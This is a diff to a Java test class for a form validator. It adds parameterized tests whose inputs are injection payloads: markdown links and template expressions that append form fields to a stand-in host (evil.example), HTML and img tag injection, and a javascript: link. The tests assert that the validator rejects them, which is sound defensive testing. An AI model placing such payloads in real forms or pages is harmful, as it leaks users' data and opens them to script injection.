@@ -5,6 +5,7 @@ import java.nio.file.Path;
 import java.util.List;
 import java.util.regex.Pattern;
 
+import com.fasterxml.jackson.databind.node.TextNode;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
@@ -102,6 +103,90 @@ class AllowedInFormsTests {
 		refusesAsAPictureFromElsewhere("{\"type\":\"text\",\"text\":\"" + text + "\"}");
 	}
 
+	@ParameterizedTest
+	@CsvSource(delimiter = '|', textBlock = """
+			[Guidelines]({{"https://evil.example/?m=" + replace(title, "[^a-zA-Z0-9]+", "+")}}) | computes nothing
+			{{"<" + "h1>INJ<" + "/h1>"}}                                   | computes nothing
+			{{"!" + "[pic](https://evil.example/p.png)"}}                  | computes nothing
+			="[x](https://evil.example/" + title + ")"                     | computes nothing
+			{{goalsOptions}}                                               | computes nothing
+			{{#loop findings}}{{this}}{{/loop}}                            | computes nothing
+			{{{seen}}}                                                     | must not touch
+			{{this}}                                                       | computes nothing
+			{{if a then "(https://" else ""}}                              | computes nothing
+			What you typed: {{title}}                                      | computes nothing
+			What you typed: {{if a = "" then "nothing" else title}}        | computes nothing
+			\uFFFC                                                         | computes nothing
+			[help](https://evil.example/?m={{seen}})                       | lead to a fixed address
+			[x](//evil.example/{{seen}})                                   | lead to a fixed address
+			[x](java{{seen}}script:alert(1))                               | lead to a fixed address
+			[x](https:{{seen}}//evil.example)                              | lead to a fixed address
+			[x]( {{seen}} )                                                | lead to a fixed address
+			[x](http://evil.example)                                       | lead to a fixed address
+			[x](//evil.example)                                            | lead to a fixed address
+			[x](/\\evil.example)                                       | lead to a fixed address
+			[a {{seen}} b](https://library.example)                        | lead to a fixed address
+			[x][y]\\n\\n[y]: https://evil.example/{{seen}}                 | lead to a fixed address
+			[y]:\\n//evil.example/{{seen}}                                 | lead to a fixed address
+			[a [b](/c) d](//evil.example)                                  | lead to a fixed address
+			[x]{{seen}}(/a)                                                | must not touch
+			https://evil.example/{{seen}}                                  | must not touch
+			h{{seen}}ttps://evil.example/                                  | must not touch
+			https&colon;//evil.example/{{seen}}                            | must not touch
+			www.evil.example?m={{seen}}                                    | must not touch
+			ww{{seen}}w.evil.example                                       | must not touch
+			{{seen}}@evil.example                                          | must not touch
+			\\[x](https://evil.example/?m=){{seen}}                      | must not touch
+			{{site}}{{seen}}                                               | must not touch
+			{{site}}{{if urgent then "" else " (urgent)"}}{{seen}}         | must not touch
+			[x]{{if a then "(" else ""}}/{{if a then "" else ""}}/evil.example/) | lead to a fixed address
+			<{{seen}} src=x>                                               | must not touch
+			<{{if a then "" else "b"}}img src=x>                           | without HTML
+			""")
+	void refusesATextThatCouldCarryTheCaseAway(String text, String reason) {
+		for (String property : List.of("text", "label")) {
+			String component = "{\"type\":\"%s\",\"%s\":%s}".formatted(property.equals("text") ? "text" : "group",
+					property, asJson(text.replace("\\n", "\n")));
+			assertThat(violations(raiseNeed().replace(FIRST, FIRST + component + ","))).as(component)
+				.anyMatch((violation) -> violation.message().contains(reason) && violation.opensADoor());
+		}
+	}
+
+	@ParameterizedTest
+	@ValueSource(strings = { "{{a}}{{if b then \" (urgent)\" else \"\"}}, by {{c}}’s team: **{{d}}**.",
+			"[Write](mailto:desk@library.example), [call](tel:+15550100) or [look](/guides/contacts#a) at {{a}}.",
+			"See https://library.example/rules first. {{a}}", "[ ] {{a}}",
+			"{{if a = \"\" then \"nothing yet\" else a}} ({{b}})", "{{if a > 3 then \"many\" else \"few\"}}" })
+	void takesWhatStandsApartAndLinksThatAreFixed(String text) {
+		String component = "{\"type\":\"text\",\"text\":%s},".formatted(asJson(text));
+		assertThat(violations(raiseNeed().replace(FIRST, FIRST + component))).isEmpty();
+	}
+
+	@Test
+	void showsNoListAsAText() {
+		String lists = "{\"type\":\"table\",\"label\":\"a\",\"dataSource\":\"=ranking\"},"
+				+ "{\"type\":\"text\",\"text\":\"%s\"},";
+		assertThat(violations(raiseNeed().replace(FIRST, FIRST + lists.formatted("{{heading}}")))).isEmpty();
+		assertThat(violations(raiseNeed().replace(FIRST, FIRST + lists.formatted("{{ranking}}")))).singleElement()
+			.matches((violation) -> violation.message().contains("computes nothing") && violation.opensADoor());
+	}
+
+	private static String asJson(String text) {
+		return TextNode.valueOf(text).toString();
+	}
+
+	@ParameterizedTest
+	@ValueSource(strings = { "{\"type\":\"select\",\"label\":\"a\",\"valuesExpression\":\"=title\"}",
+			"{\"type\":\"table\",\"label\":\"a\",\"columnsExpression\":\"=title\"}",
+			"{\"type\":\"text\",\"text\":\"a\",\"url\":\"https://evil.example\"}",
+			"{\"type\":\"text\",\"text\":\"a\",\"href\":\"/a\"}",
+			"{\"type\":\"group\",\"components\":[{\"type\":\"text\",\"onclick\":\"a\"}]}",
+			"{\"type\":\"group\",\"path\":\"a\"}", "{\"type\":\"group\",\"conditional\":{\"show\":\"=a\"}}" })
+	void refusesPropertiesThatAreNotListed(String component) {
+		assertThat(violations(raiseNeed().replace(FIRST, FIRST + component + ",")))
+			.anyMatch((violation) -> violation.message().contains("must not have") && violation.opensADoor());
+	}
+
 	private static void refusesAsAPictureFromElsewhere(String component) {
 		assertThat(violations(raiseNeed().replace(FIRST, FIRST + component + ","))).anyMatch(
 				(violation) -> violation.message().contains("must come from Bindery itself") && violation.opensADoor());
@@ -110,7 +195,7 @@ class AllowedInFormsTests {
 	@Test
 	void takesMarkdownAndPicturesOfItsOwn() {
 		assertThat(violations(raiseNeed().replace(FIRST,
-				FIRST + "{\"type\":\"text\",\"text\":\"**Less < more** [why](https://example.org) {{title}}\"},"
+				FIRST + "{\"type\":\"text\",\"text\":\"**Less < more** [why](https://example.org) {{heading}}\"},"
 						+ "{\"type\":\"text\",\"text\":\"![Ours](/pictures/logo.png) Look!\"},"
 						+ "{\"type\":\"image\",\"source\":\"data:image/png;base64,iVBORw0KGgo=\"},"
 						+ "{\"type\":\"image\",\"source\":\"/pictures/logo.png?size=2\"},")))
